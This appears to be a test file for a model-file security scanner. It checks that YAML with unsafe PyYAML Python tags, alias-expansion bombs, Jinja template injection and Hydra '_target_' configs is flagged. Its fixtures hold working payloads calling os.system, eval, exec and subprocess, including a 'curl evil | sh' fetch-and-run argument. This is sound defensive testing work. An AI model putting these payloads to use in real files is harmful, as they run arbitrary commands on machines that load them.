"""YAML by content: object tags resolved as PyYAML resolves them, bounds, unparseable text."""

from __future__ import annotations

import collections
import io
import json
import struct
from pathlib import Path

import numpy as np
import pytest
import yaml

from modelshield.core.findings import Severity
from modelshield.scanner.detect import detect
from modelshield.scanner.registry import Format
from tests.scanner.formats.conftest import of, rules, scan_bytes

# ---- detection --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "model:\n  name: x\n  layers: [1, 2]\n",
        "# a comment\n---\n- a\n- b\n",
        "%YAML 1.1\n---\nkey: value\n",
        '"quoted key": 1\nother: 2\n',
        "x: !!python/object/apply:os.system [id]\n",
        "just one line: here\n",
    ],
)
def test_yaml_is_recognised_by_content(text: str) -> None:
    assert detect(memoryview(text.encode())) is Format.YAML


@pytest.mark.parametrize(
    "text",
    [
        "This is a README.\n\nIt explains: things, in prose.\nMore prose here.\n",
        "# Title\n\nSome markdown text with a colon: here\n",
        "def main():\n    return 1\n",
        "if x:\n    y = 1\n",
        "[section]\nkey = value\n",
        "plain notes with {braces}\n",
    ],
)
def test_prose_and_programs_are_not_yaml(text: str) -> None:
    assert detect(memoryview(text.encode())) is not Format.YAML


def test_utf16_yaml_with_a_byte_order_mark_is_read_like_pyyaml_reads_it(tmp_path: Path) -> None:
    text = "a: !!python/object/apply:os.system [id]\n"
    data = b"\xff\xfe" + text.encode("utf-16-le")
    assert yaml.compose(io.BytesIO(data)).value[0][1].tag.endswith("os.system")
    result = scan_bytes(tmp_path, data)
    assert result.format == "yaml"
    assert [f.evidence["callable"] for f in of(result, "YAML-PYTHON-OBJECT")] == ["os.system"]


def test_prose_that_looks_like_a_key_and_does_not_parse_stays_text(tmp_path: Path) -> None:
    text = b"Note: this model is great\nand: it: breaks: yaml\n  - badly\n"
    result = scan_bytes(tmp_path, text)
    assert result.findings == () and result.gaps == ()
    assert result.format == "text"


# ---- object tags -----------------------------------------------------------------------

_FORMS = {
    "short": "x: !!python/object/apply:{name} [' x']\n",
    "verbatim": "x: !<tag:yaml.org,2002:python/object/apply:{name}> [' x']\n",
    "tag-handle": "%TAG !py! tag:yaml.org,2002:python/\n---\nx: !py!object/apply:{name} [' x']\n",
    "primary-handle": "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\nx: !{name} [' x']\n",
    "uri-escape": "x: !!python/object/apply:{escaped} [' x']\n",
    "anchor-alias": "a: &p !!python/object/apply:{name} [' x']\nb: *p\n",
    "mapping-key": "? !!python/object/apply:{name} [' x']\n: 1\n",
    "merge-key": "base: &b {{k: !!python/object/apply:{name} [' x']}}\nc:\n  <<: *b\n",
    "nested": "a:\n  b:\n    - c: !!python/object/apply:{name} [' x']\n",
}


@pytest.mark.parametrize("form", sorted(_FORMS))
def test_every_tag_form_resolves_to_what_the_loader_calls(tmp_path: Path, form: str) -> None:
    """The real unsafe loader calls textwrap.dedent (harmless) for each form; the scanner
    names the same callable."""
    text = _FORMS[form].format(name="textwrap.dedent", escaped="textwrap%2Ededent")
    loaded = yaml.unsafe_load(text)
    assert "x" in json.dumps(loaded, default=str)  # dedent(' x') == 'x' was called
    result = scan_bytes(tmp_path, text.encode())
    found = of(result, "YAML-PYTHON-OBJECT")
    assert {f.evidence["callable"] for f in found} == {"textwrap.dedent"}
    assert all(f.severity is Severity.MEDIUM for f in found)  # unknown callable
    assert "line" in found[0].evidence and "column" in found[0].evidence


@pytest.mark.parametrize(
    ("tag", "callable_", "severity"),
    [
        ("!!python/object/apply:os.system ['id']", "os.system", Severity.CRITICAL),
        ("!!python/object/apply:posix.system ['id']", "os.system", Severity.CRITICAL),
        ("!!python/object/new:subprocess.Popen [['id']]", "subprocess.Popen", Severity.CRITICAL),
        ("!!python/name:builtins.eval ''", "builtins.eval", Severity.CRITICAL),
        ("!!python/name:eval ''", "builtins.eval", Severity.CRITICAL),
        ("!!python/module:os ''", "os", Severity.CRITICAL),
        ("!!python/object:mylib.Thing {a: 1}", "mylib.Thing", Severity.MEDIUM),
    ],
)
def test_object_tags_are_judged_by_the_callable_policy(
    tmp_path: Path, tag: str, callable_: str, severity: Severity
) -> None:
    result = scan_bytes(tmp_path, f"payload: {tag}\n".encode())
    found = of(result, "YAML-PYTHON-OBJECT")
    assert [(f.evidence["callable"], f.severity) for f in found] == [(callable_, severity)]
    assert found[0].evidence["path"] == "payload"


def test_arguments_of_a_call_are_in_the_evidence(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, b"x: !!python/object/apply:os.system ['curl evil | sh']\n")
    assert of(result, "YAML-PYTHON-OBJECT")[0].evidence["arguments"] == "curl evil | sh"


def test_what_lightning_and_yaml_dump_write_is_not_reported(tmp_path: Path) -> None:
    """Tuples, NumPy scalars and ordered dicts, as ``yaml.dump`` writes them in hparams.yaml."""
    hparams = {
        "lr": 1e-3,
        "betas": (0.9, 0.999),
        "shapes": [(1, 2), (3, 4)],
        "scale": np.float64(0.5),
        "steps": np.int64(3),
        "order": collections.OrderedDict(a=1),
        "none": None,
        "raw": b"bytes",
    }
    text = yaml.dump(hparams)
    assert "!!python/tuple" in text and "!!python/object/apply:numpy" in text
    result = scan_bytes(tmp_path, text.encode(), name="hparams.yaml")
    assert result.findings == () and result.gaps == ()
    assert "numpy._core.multiarray:scalar" in result.imports


def test_safe_dump_of_a_config_is_clean(tmp_path: Path) -> None:
    text = yaml.safe_dump({"model": {"layers": [64, 64], "dropout": 0.1}, "seed": 1})
    result = scan_bytes(tmp_path, text.encode(), name="config.yaml")
    assert result.findings == () and result.gaps == ()
    assert result.format == "yaml"


def test_unknown_python_tags_that_no_constructor_matches_are_not_reported(
    tmp_path: Path,
) -> None:
    text = b"a: !!python/objectx:os.system [id]\nb: !python/object/apply:os.system [id]\n"
    with pytest.raises(yaml.constructor.ConstructorError):
        yaml.unsafe_load(text)
    assert "YAML-PYTHON-OBJECT" not in rules(scan_bytes(tmp_path, text))


# ---- bounds ----------------------------------------------------------------------------


def _laughs(levels: int, width: int = 10) -> bytes:
    lines = ["a0: &a0 [lol]"]
    for i in range(1, levels):
        refs = ", ".join([f"*a{i - 1}"] * width)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return ("\n".join(lines) + "\n").encode()


def test_billion_laughs_is_counted_not_expanded(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, _laughs(10))
    found = of(result, "YAML-ALIAS-EXPANSION")
    assert len(found) == 1 and found[0].evidence["expanded"].startswith(">")
    assert result.gaps == ()  # every node was analysed, once


def test_small_aliases_are_not_reported(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, _laughs(3))
    assert "YAML-ALIAS-EXPANSION" not in rules(result)


def test_a_node_that_contains_itself_is_reported(tmp_path: Path) -> None:
    data = b"a: &a [1, *a]\n"
    loaded = yaml.safe_load(data)
    assert loaded["a"][1] is loaded["a"]  # PyYAML builds the cycle
    found = of(scan_bytes(tmp_path, data), "YAML-ALIAS-EXPANSION")
    assert found[0].evidence["expanded"] == "endless"


def test_deep_nesting_stops_at_the_structure_limit(tmp_path: Path) -> None:
    data = b"a: " + b"[" * 200_000 + b"]" * 200_000 + b"\n"
    result = scan_bytes(tmp_path, data)
    limits = of(result, "SCAN-LIMIT")
    assert limits and limits[0].evidence["limit"] == "max_structure_depth"
    assert result.gaps


def test_tags_before_a_limit_are_kept(tmp_path: Path) -> None:
    data = b"x: !!python/object/apply:os.system [id]\n---\n" + b"- " * 500 + b"1\n"
    result = scan_bytes(tmp_path, data, max_structure_depth=50)
    assert {"YAML-PYTHON-OBJECT", "SCAN-LIMIT"} <= rules(result)


def test_node_count_is_bounded(tmp_path: Path) -> None:
    data = b"- 1\n" * 5000
    result = scan_bytes(tmp_path, data, max_document_values=1000)
    assert of(result, "SCAN-LIMIT")[0].evidence["limit"] == "max_document_values"


def test_a_huge_scalar_is_read(tmp_path: Path) -> None:
    data = b"blob: " + b"A" * (4 << 20) + b"\nx: !!python/name:os.system ''\n"
    result = scan_bytes(tmp_path, data)
    assert "YAML-PYTHON-OBJECT" in rules(result)
    assert result.gaps == ()


def test_a_file_above_the_document_limit_is_not_read(tmp_path: Path) -> None:
    data = b"a: 1\n" + b"b: 2\n" * 1000
    result = scan_bytes(tmp_path, data, max_document_bytes=100)
    assert of(result, "SCAN-LIMIT")[0].evidence["limit"] == "max_document_bytes"


# ---- unparseable -----------------------------------------------------------------------


def test_declared_yaml_that_does_not_parse_is_not_analysed(tmp_path: Path) -> None:
    data = b"model: !!python/object/apply:os.system [id\n"
    with pytest.raises(yaml.YAMLError):
        yaml.unsafe_load(data)
    result = scan_bytes(tmp_path, data)
    found = of(result, "YAML-UNPARSEABLE")
    assert found and found[0].severity is Severity.HIGH  # it names a Python tag
    assert "python/object/apply:os.system" in found[0].evidence["python_tags"]
    assert [g.rule_id for g in result.gaps] == ["YAML-UNPARSEABLE"]


def test_a_yaml_file_name_makes_a_parse_error_a_gap(tmp_path: Path) -> None:
    data = b"model:\n  name: x\n bad: indentation: here\n"
    result = scan_bytes(tmp_path, data, name="config.yaml")
    found = of(result, "YAML-UNPARSEABLE")
    assert found and found[0].severity is Severity.MEDIUM and found[0].evidence["line"]
    assert result.gaps


def test_undefined_alias_is_a_parse_error_as_in_pyyaml(tmp_path: Path) -> None:
    data = b"a: *nothing\n"
    with pytest.raises(yaml.composer.ComposerError):
        yaml.safe_load(data)
    assert "YAML-UNPARSEABLE" in rules(scan_bytes(tmp_path, data, name="x.yml"))


def test_documents_before_an_error_are_analysed(tmp_path: Path) -> None:
    data = b"a: !!python/name:os.system ''\n---\nb: [unclosed\n"
    result = scan_bytes(tmp_path, data, name="multi.yaml")
    assert {"YAML-PYTHON-OBJECT", "YAML-UNPARSEABLE"} <= rules(result)


def test_markdown_front_matter_is_not_a_parse_error(tmp_path: Path) -> None:
    data = b"---\nlicense: mit\ntags: [nlp]\n---\n# Model card\n\nSome text: with [brackets\n"
    result = scan_bytes(tmp_path, data, name="README.md")
    assert result.findings == () and result.gaps == ()


# ---- strings and templates inside YAML ---------------------------------------------------


def test_templates_in_yaml_values_are_still_analysed(tmp_path: Path) -> None:
    data = b"chat_template: \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"\n"
    result = scan_bytes(tmp_path, data)
    assert result.format == "yaml"
    assert any(f.rule_id.startswith("TEMPLATE-") for f in result.findings)
    assert result.max_severity is not None and result.max_severity >= Severity.HIGH


def test_strings_carry_their_line(tmp_path: Path) -> None:
    data = b"a: 1\nsecret:\n  api_key: sk-proj-abcdefghij1234567890XYZ\n"
    found = of(scan_bytes(tmp_path, data), "METADATA-CREDENTIAL")
    assert "line 3" in found[0].evidence["where"]


# ---- YAML and configs inside other formats ------------------------------------------------


def _safetensors(metadata: dict[str, str]) -> bytes:
    header = json.dumps({"__metadata__": metadata}).encode()
    return struct.pack("<Q", len(header)) + header


def test_yaml_with_python_tags_in_safetensors_metadata(tmp_path: Path) -> None:
    data = _safetensors({"config": "model: !!python/object/apply:os.system [id]\n"})
    result = scan_bytes(tmp_path, data, name="model.safetensors")
    found = of(result, "YAML-PYTHON-OBJECT")
    assert found and found[0].evidence["callable"] == "os.system"


def test_a_hydra_config_in_safetensors_metadata(tmp_path: Path) -> None:
    """FlexTok-style: a JSON model config with ``_target_`` in the header metadata."""
    config = {"encoder": {"_target_": "builtins.exec", "_args_": ["import os"]}}
    data = _safetensors({"args": json.dumps(config)})
    found = of(scan_bytes(tmp_path, data, name="model.safetensors"), "CONFIG-TARGET")
    assert found and found[0].evidence["callable"] == "builtins.exec"
    assert found[0].severity is Severity.CRITICAL


# ---- start-up ----------------------------------------------------------------------------


def test_yaml_is_imported_only_for_a_yaml_candidate(tmp_path: Path) -> None:
    import subprocess
    import sys

    (tmp_path / "a.pkl").write_bytes(b"\x80\x04N.")
    (tmp_path / "b.json").write_text('{"_target_": "torch.nn.Linear"}')
    (tmp_path / "c.yaml").write_text("a: 1\n")
    code = (
        "import sys; from modelshield.scanner.engine import scan_file; "
        "from modelshield.core.policy import Policy; seen = []\n"
        "for name in ('a.pkl', 'b.json', 'c.yaml'):\n"
        f"    scan_file({str(tmp_path)!r} + '/' + name, Policy())\n"
        "    seen.append('yaml' in sys.modules)\n"
        "print(seen)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[False, False, True]"


def test_a_yaml_flow_mapping_that_looks_like_json(tmp_path: Path) -> None:
    data = b'{a: !!python/object/apply:os.system [id], "b": 1}'
    assert detect(memoryview(data)) is Format.JSON
    found = of(scan_bytes(tmp_path, data), "YAML-PYTHON-OBJECT")
    assert [f.evidence["callable"] for f in found] == ["os.system"]


def test_a_truncated_json_file_is_not_a_yaml_gap(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, b'{"a": [1, 2', name="config.json")
    assert result.findings == () and result.gaps == ()


@pytest.mark.parametrize(
    "text",
    [
        "--- !<tag%3Ayaml.org,2002:python/object/apply:textwrap.dedent> [' x']\n",
        "!!python/object/apply:textwrap.dedent [' x']\n",
        "&a !<tag:yaml.org,2002:python/object/apply:textwrap.dedent> [' x']\n",
    ],
)
def test_a_tagged_root_node_is_yaml(tmp_path: Path, text: str) -> None:
    assert yaml.unsafe_load(text) == "x"
    found = of(scan_bytes(tmp_path, text.encode()), "YAML-PYTHON-OBJECT")
    assert [f.evidence["callable"] for f in found] == ["textwrap.dedent"]


def test_a_yaml_config_in_a_gguf_string(tmp_path: Path) -> None:
    import gguf

    path = tmp_path / "m.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_string("training.config", "trainer:\n  hook: !!python/name:os.system ''\n")
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.close()
    found = of(scan_bytes(tmp_path, path.read_bytes(), name="m.gguf"), "YAML-PYTHON-OBJECT")
    assert [f.evidence["callable"] for f in found] == ["os.system"]


def test_a_json_config_held_in_a_json_string(tmp_path: Path) -> None:
    inner = json.dumps({"model": {"_target_": "subprocess.getoutput", "_args_": ["id"]}})
    data = json.dumps({"model_type": "x", "train_args": inner}).encode()
    found = of(scan_bytes(tmp_path, data, name="config.json"), "CONFIG-TARGET")
    assert [f.evidence["callable"] for f in found] == ["subprocess.getoutput"]
    assert "train_args" in found[0].evidence["where"]
